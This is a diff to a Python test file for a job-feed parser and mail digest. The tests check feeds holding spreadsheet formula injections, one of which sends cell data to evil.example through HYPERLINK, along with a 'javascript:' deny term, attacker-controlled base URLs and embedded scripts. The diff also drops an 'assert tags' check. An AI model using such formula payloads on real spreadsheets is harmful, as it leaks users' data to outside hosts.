@@ -103,7 +103,6 @@ def test_every_tag_of_a_mail_is_our_own() -> None:
 def test_no_tag_of_a_mail_does_what_is_forbidden(path: str) -> None:
     forbidden = [*CASES[path].get("forbid_html", []), "javascript:"]
     tags = [tag for message in outcome(path).messages for tag in re.findall("<[^>]*>", message.html)]
-    assert tags
     assert not [tag for tag in tags if any(word in html.unescape(tag).lower() for word in forbidden)]
 
 
@@ -137,6 +136,44 @@ def test_a_closed_opening_is_stored_and_not_alerted() -> None:
     result = outcome("jsonld/08-expired.html")
     assert len(result.leads) == 1
     assert [digest.leads for digest in result.digests] == [()]
+    assert result.digests[0].notices == ("Now watching Board: 1 opening filed, none fits your searches.",)
+
+
+@pytest.mark.parametrize(
+    ("path", "titles"),
+    [
+        ("rss/07-undefined-entity.rss", ["Café manager", "Chef de cuisine"]),
+        (
+            "rss/27-formula-title.rss",
+            ["+1-800 operator", '=HYPERLINK("http://evil.example?"&A1,"open")', "@SUM(A1:A9)"],
+        ),
+        ("rss/34-same-title-two-jobs.rss", ["Nurse", "Nurse"]),
+    ],
+)
+def test_titles_are_those_that_a_person_would_read(path: str, titles: list[str]) -> None:
+    assert sorted(stored.lead.title for stored in outcome(path).leads) == titles
+
+
+@pytest.mark.parametrize(
+    ("path", "link"),
+    [
+        ("rss/33-credentials-in-link.rss", "http://jobs.example/1?token=abc"),
+        ("rss/39-many-links.rss", "http://jobs.example/real"),
+        ("rss/35-tracking-parameters.rss", "http://jobs.example/p?id=5"),
+        ("atom/03-base-elsewhere.atom", "http://evil.example/x/job/1"),
+        ("html/11-base-elsewhere.html", "http://evil.example/job/1"),
+    ],
+)
+def test_the_link_is_the_one_that_counts(path: str, link: str) -> None:
+    assert outcome(path).links == [link]
+
+
+@pytest.mark.parametrize(
+    ("path", "words"), [("rss/21-script-in-description.rss", "Good pay"), ("atom/02-xhtml-script.atom", "Apply now")]
+)
+def test_the_words_beside_active_markup_stay(path: str, words: str) -> None:
+    (stored,) = outcome(path).leads
+    assert words in stored.lead.description
 
 
 def test_links_that_run_code_are_cut_off_and_their_leads_marked() -> None:
